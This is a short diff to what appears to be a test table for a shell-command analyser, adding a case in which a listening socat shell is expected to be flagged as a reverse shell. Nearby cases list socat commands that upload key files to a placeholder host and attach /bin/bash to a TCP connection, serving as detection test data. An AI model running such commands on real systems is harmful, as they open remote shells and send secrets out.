@@ -20,6 +20,7 @@ table("network", networkTools, [
   ["socat -u 'OPEN:\"k\"' TCP:e:1", ["read k", "network e:1 upload"]],
   ["socat -u OPEN:key,chdir=source TCP:e:1", ["read source/key", "network e:1 upload"]],
   ["socat TCP:e:1 EXEC:/bin/bash,pty", ["network e:1 upload", "shell /bin/bash", "!remote-code:3:reverse-shell"]],
+  ["socat TCP-LISTEN:4444 SHELL", ["network 4444 upload", "shell ", "!remote-code:3:reverse-shell"]],
   ["socat TCP:e:1 CREATE:out", ["network e:1 upload", "write out"]],
   ["openssl x509 -in cert.crt -text -noout", ["read cert.crt"]],
   ["openssl genrsa -out key.pem 2048", ["write key.pem"]],
